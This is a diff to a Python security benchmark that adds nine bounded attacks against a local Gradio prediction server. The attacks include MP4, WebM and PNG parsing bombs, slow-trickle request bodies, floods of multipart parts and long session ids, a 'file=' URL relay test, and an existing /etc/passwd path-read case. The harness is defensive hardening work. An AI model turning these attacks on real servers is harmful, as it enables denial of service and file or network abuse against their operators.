@@ -9,7 +9,7 @@ Every server is started with ``FORWARDED_ALLOW_IPS=127.0.0.1`` (attacker and vic
 ``X-Forwarded-For``; a revision that ignores the header sees them as one client) and a per-minute rate limit high
 enough that only the attack itself can refuse the victim; ``ENV`` adds an attack's own settings (B9's
 ``FORWARDED_ALLOW_IPS=*``). B1 and B4 come from other loopback addresses (127.0.0.5, 127.0.0.6) over real sockets.
-Attacks 8–19 are issue #21's B1–B12; each is bounded (client timeouts, ≤ 60 s) even against a vulnerable server.
+Attacks 8–19 are issue #21's B1–B12, 20– issue #33's C1–C9; each is bounded (client timeouts, ≤ 60 s) even against a vulnerable server.
 """
 
 from __future__ import annotations
@@ -27,11 +27,12 @@ from pathlib import Path
 from typing import Callable
 
 import httpx
-
+import numpy as np
 from PIL import Image
 
-from bench.attacks import (ASTRONAUT_PATH, Wire, bomb_png, cpu_s, data_url, empty_parts, encode, flat_png, idle_sockets,
-                           mp4_clip, path_entry, raw_request, rss_mb, scan_bomb_jpeg, still_open, tiny_objects, watch)
+from bench.attacks import (ASTRONAUT_PATH, Wire, bomb_png, chunk_bomb_png, cpu_s, data_url, empty_parts, encode, flat_png,
+                           idle_sockets, many_tracks_mkv, mp4_clip, path_entry, raw_request, rss_mb, sample_index_mp4,
+                           scan_bomb_jpeg, still_open, tiny_objects, trickle, trickled_bodies, watch)
 from bench.server import ROOT, running_app
 
 ASTRONAUT = ASTRONAUT_PATH.read_bytes()
@@ -435,6 +436,198 @@ def live_slots(url: str, tmp: Path) -> str:
     return f"{held}/8 streams of 4 clients accepted; a 5th client's stream: HTTP {fifth.status}{error}"
 
 
+# -- the attacks of issue #33 (round 3) ----------------------------------------------------------------------------
+def _with_victim_clip(url: str, attack: Callable[[], str]) -> str:
+    """``attack()`` while another client sends a small clip 1 s in: what the attack got, and the clip's answer time."""
+    _, small = _clips()
+    with ThreadPoolExecutor(2) as pool:
+        mine = pool.submit(attack)
+        time.sleep(1)
+        other = pool.submit(_post_file, url, "/api/predict_video", "clip.mp4", small, VICTIM, 60)
+        what, (what2, secs2) = mine.result(), other.result()
+    return f"{what}; another client's 2 s clip 1 s in: {what2} in {secs2:.1f} s"
+
+
+def sample_index_bomb(url: str, tmp: Path) -> str:
+    """C1: a 1.7 KB MP4 declaring 2 tracks × 80 M samples, then a 2.4 MB WebM of 990 tracks, to /api/predict_video."""
+    mp4, mkv = sample_index_mp4(tracks=2), many_tracks_mkv(990)
+
+    def attack() -> str:
+        (a, s1), (b, s2) = (_post_file(url, "/api/predict_video", "clip.mp4", mp4, ATTACKER, 60),
+                            _post_file(url, "/api/predict_video", "clip.webm", mkv, ATTACKER, 60))
+        return f"{len(mp4) / 1024:.1f} KB MP4 of 2 × 80 M samples: {a} in {s1:.1f} s; {len(mkv) / 2**20:.1f} MB WebM of 990 tracks: {b} in {s2:.1f} s"
+
+    return _with_victim_clip(url, attack)
+
+
+def starved_budget(url: str, tmp: Path) -> str:
+    """C2: 12 sockets from 6 clients declare bodies adding up to 512 MB − 64 B (the in-flight total) and trickle a byte
+    every 5 s for 30 s; another client's /api/predict and /call/predict meanwhile."""
+    held = trickled_bodies(url, 12, (512 * 2**20 - 64) // 12, clients=6)
+    answers: list[tuple[str, float]] = []
+    try:
+        for k in range(6):
+            time.sleep(1)
+            answers.append(_post_file(url, "/api/predict", "face.jpg", ASTRONAUT, VICTIM, 20))
+            t0 = time.perf_counter()
+            r = replace(FNS[url], ip=VICTIM).post("/gradio_api/call/predict", {"data": [path_entry(str(ASTRONAUT_PATH))]}, 20)
+            answers.append((f"HTTP {r.status}" + (f" {r.error}" if r.error else ""), time.perf_counter() - t0))
+            time.sleep(3)
+            trickle(held)
+        fate = _fates(held)
+    finally:
+        for sock in held:
+            sock.close()
+    return f"12 bodies declaring 512 MB − 64 B, a byte every 5 s, 30 s: sockets {fate}; other client meanwhile: {_answers(answers)}"
+
+
+def unread_answers(url: str, tmp: Path) -> str:
+    """C3: 10 clients × 10 page Upload events (a 2048² photo with sensor-like noise, so its inline preview is as large
+    as a real photo's) never reading /queue/data (joined again when busy)."""
+    rgb = np.asarray(Image.open(ASTRONAUT_PATH).convert("RGB").resize((2048, 2048)), dtype=np.int16)
+    noisy = np.clip(rgb + np.random.default_rng(0).normal(0, 12, rgb.shape), 0, 255).astype(np.uint8)
+    photo = encode(Image.fromarray(noisy), "JPEG", quality=90)
+
+    def client(c: int) -> int:
+        wire, session, joined = replace(FNS[url], ip=f"10.66.30.{c}"), f"unread{c:02d}", 0
+        deadline = time.perf_counter() + 60
+        while joined < 10 and time.perf_counter() < deadline:
+            reply, _ = wire.join("analyse_upload", [path_entry(wire.upload("face.jpg", photo))], session)
+            if reply.status == 200:
+                joined += 1
+            else:
+                time.sleep(0.5)
+        return joined
+
+    with ThreadPoolExecutor(10) as pool:
+        joined = sum(pool.map(client, range(10)))
+    time.sleep(5)  # the queue finishes what was joined
+    return f"{joined} Upload events of a {len(photo) / 2**20:.1f} MB photo from 10 clients, answers never read"
+
+
+def chunk_bombs(url: str, tmp: Path) -> str:
+    """C4: 12 PNGs of 1.46 M empty chunks (17 MB each) from one client, 6 at a time; another client's photo 1 s in."""
+    bomb = chunk_bomb_png()
+    with ThreadPoolExecutor(7) as pool:
+        mine = [pool.submit(_post_file, url, "/api/predict", "bomb.png", bomb, ATTACKER, 60) for _ in range(6)]
+        time.sleep(1)
+        other = pool.submit(_post_file, url, "/api/predict", "face.jpg", ASTRONAUT, VICTIM, 60)
+        results = [f.result() for f in mine]
+        results += list(pool.map(lambda _: _post_file(url, "/api/predict", "bomb.png", bomb, ATTACKER, 60), range(6)))
+        what, secs = other.result()
+    return f"12 × {len(bomb) / 2**20:.0f} MB PNG of 1.46 M chunks: {_answers(results)}; another client's photo: {what} in {secs:.1f} s"
+
+
+def url_relay(url: str, tmp: Path) -> str:
+    """C5 (server with every proxy variable pointing at a closed local port: nothing leaves the machine): file= targets
+    that are URLs; Gradio would fetch them after a DNS-over-HTTPS lookup."""
+    seen = []
+    for target in ("http://example.com/big", "https://example.com/x", "//example.com/x"):
+        t0 = time.perf_counter()
+        try:
+            code = str(httpx.get(f"{url}/gradio_api/file={target}", headers=_xff(ATTACKER), timeout=15).status_code)
+        except httpx.HTTPError:
+            code = "no answer"
+        seen.append(f"{target} {code} in {time.perf_counter() - t0:.2f} s")
+    return "HTTP: " + ", ".join(seen)
+
+
+def many_file_parts(url: str, tmp: Path) -> str:
+    """C6: 48 /gradio_api/upload requests of 1,000 tiny file parts each, 24 at once, one client."""
+    body = b"".join(b'--b\r\nContent-Disposition: form-data; name="files"; filename="f%d.jpg"\r\n\r\nx\r\n' % i
+                    for i in range(1000)) + b"--b--\r\n"
+    before = sum(1 for p in (tmp / "gradio").rglob("*") if p.is_file())
+
+    def send(_) -> tuple[str, float]:
+        t0 = time.perf_counter()
+        try:
+            r = httpx.post(url + "/gradio_api/upload", content=body, timeout=60,
+                           headers={"Content-Type": "multipart/form-data; boundary=b", **_xff(ATTACKER)})
+        except httpx.HTTPError:
+            return "no answer", time.perf_counter() - t0
+        return _label(r), time.perf_counter() - t0
+
+    with ThreadPoolExecutor(24) as pool:
+        results = list(pool.map(send, range(48)))
+    files = sum(1 for p in (tmp / "gradio").rglob("*") if p.is_file()) - before
+    return f"48 × {len(body) // 1024} KB uploads of 1,000 parts: {_answers(results)}; {files:,} files written"
+
+
+@functools.cache
+def _crowd_clip() -> bytes:
+    """A 60 s 1280×720 clip at 10 fps of 14 faces (the astronaut, tiled) — a still, so a few hundred KB."""
+    import cv2
+
+    face = cv2.cvtColor(np.asarray(Image.open(ASTRONAUT_PATH).convert("RGB").resize((170, 170))), cv2.COLOR_RGB2BGR)
+    frame = np.full((720, 1280, 3), 128, np.uint8)
+    for k in range(14):
+        y, x = 40 + (k // 7) * 340, 10 + (k % 7) * 180
+        frame[y:y + 170, x:x + 170] = face
+    with tempfile.TemporaryDirectory() as d:
+        writer = cv2.VideoWriter(str(Path(d) / "c.mp4"), cv2.VideoWriter_fourcc(*"mp4v"), 10, (1280, 720))
+        for _ in range(600):
+            writer.write(frame)
+        writer.release()
+        return (Path(d) / "c.mp4").read_bytes()
+
+
+def crowded_video_slot(url: str, tmp: Path) -> str:
+    """C7: two 60 s clips of 14 faces a frame from one client at once; another client's 2 s clip 2 s later."""
+    heavy, (_, small) = _crowd_clip(), _clips()
+    with ThreadPoolExecutor(3) as pool:
+        mine = [pool.submit(_post_file, url, "/api/predict_video", "crowd.mp4", heavy, ATTACKER, 200) for _ in range(2)]
+        time.sleep(2)
+        other = pool.submit(_post_file, url, "/api/predict_video", "clip.mp4", small, VICTIM, 200)
+        what, secs = other.result()
+        results = [f.result() for f in mine]
+    return f"2 × 60 s clips of 14 faces: {_answers(results)}; another client's 2 s clip 2 s later: {what} in {secs:.1f} s"
+
+
+def long_session_ids(url: str, tmp: Path) -> str:
+    """C8: 600 joins of a cheap event, each with its own 60,000-character session_hash, never read."""
+    fn = FNS[url].fns["analyse_upload"]
+    body = {"data": [None] * FNS[url].arity.get(fn, 1), "fn_index": fn, "event_data": None, "trigger_id": None}
+
+    def send(i: int) -> int:
+        try:
+            return httpx.post(url + "/gradio_api/queue/join", json={**body, "session_hash": f"{i:06d}" + "s" * 60_000},
+                              headers=_xff(f"10.66.40.{i % 200}"), timeout=20).status_code
+        except httpx.HTTPError:
+            return 0
+
+    with ThreadPoolExecutor(8) as pool:
+        codes = list(pool.map(send, range(600)))
+    return f"600 joins with 60,000-character session ids: HTTP {sorted(set(codes))} ({codes.count(200)} accepted)"
+
+
+def error_hygiene(url: str, tmp: Path) -> str:
+    """C9: requests that got a 500 (a 300-character multipart boundary, several ranges, a text field or an empty
+    file name as the upload) and 20 abandoned bodies; the server log's traceback lines."""
+    long = "x" * 300
+    example = f"{url}/gradio_api/file={ASTRONAUT_PATH}"
+    form = {"Content-Type": "multipart/form-data; boundary=b", **_xff(ATTACKER)}
+    calls = [("boundary", lambda: httpx.post(url + "/api/predict", content=f"--{long}\r\n".encode(), timeout=10,
+                                             headers={"Content-Type": f"multipart/form-data; boundary={long}", **_xff(ATTACKER)})),
+             ("ranges", lambda: httpx.get(example, headers={"Range": "bytes=0-9,20-29"}, timeout=10)),
+             ("text files", lambda: httpx.post(url + "/gradio_api/upload", timeout=10, headers=form,
+                                               content=b'--b\r\nContent-Disposition: form-data; name="files"\r\n\r\nx\r\n--b--\r\n')),
+             ("empty name", lambda: httpx.post(url + "/gradio_api/upload", timeout=10, headers=form,
+                                               content=b'--b\r\nContent-Disposition: form-data; name="files"; filename=""\r\n\r\nx\r\n--b--\r\n'))]
+    seen = []
+    for name, call in calls:
+        try:
+            seen.append(f"{name} {call().status_code}")
+        except httpx.HTTPError:
+            seen.append(f"{name} no answer")
+    for i in range(20):  # half a body, then gone
+        status, _ = raw_request(url, f"POST /api/predict HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 10.66.50.{i}\r\n"
+                                     "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n",
+                                b"--b\r\n" + bytes(5000), read_timeout=0.3)
+    time.sleep(1)
+    log = (tmp / "server.log").read_text(errors="replace")
+    return f"HTTP {', '.join(seen)}; 20 abandoned bodies: {log.count('Traceback')} tracebacks, {len(log.splitlines())} log lines"
+
+
 ATTACKS: dict[str, Callable[[str, Path], str]] = {
     "1 file by path (/etc/passwd, /dev/zero)": file_by_path, "2 pixel bombs": pixel_bombs,
     "3 66 live-stream joins": stream_joins, "4 40,000 file entries": file_flood, "5 huge JSON bodies": big_bodies,
@@ -445,10 +638,16 @@ ATTACKS: dict[str, Callable[[str, Path], str]] = {
     "15 B8 /run skips the queue": run_route, "16 B9 forged X-Forwarded-For": forged_forwarded_for,
     "17 B10 one client holds the video slot": video_slot, "18 B11 unused Gradio routes": unused_routes,
     "19 B12 all live slots": live_slots,
+    "20 C1 MP4 sample-index bomb": sample_index_bomb, "21 C2 in-flight budget starved": starved_budget,
+    "22 C3 unread answers": unread_answers, "23 C4 PNG of 1.46 M chunks": chunk_bombs, "24 C5 file= URL relay": url_relay,
+    "25 C6 1,000 file parts per upload": many_file_parts, "26 C7 crowded clips hold the video slot": crowded_video_slot,
+    "27 C8 long session ids": long_session_ids, "28 C9 error hygiene": error_hygiene,
 }
 # Server settings of one attack only, on top of run()'s.
+DEAD_PROXY = "http://127.0.0.1:9"  # the discard port: any request the server makes through a proxy goes nowhere
 ENV: dict[Callable[[str, Path], str], dict[str, str]] = {
     forged_forwarded_for: {"FORWARDED_ALLOW_IPS": "*", "EMOTION_RATE_LIMIT": "10"},
+    url_relay: {"HTTP_PROXY": DEAD_PROXY, "HTTPS_PROXY": DEAD_PROXY, "ALL_PROXY": DEAD_PROXY, "NO_PROXY": "127.0.0.1,localhost"},
 }
 
 
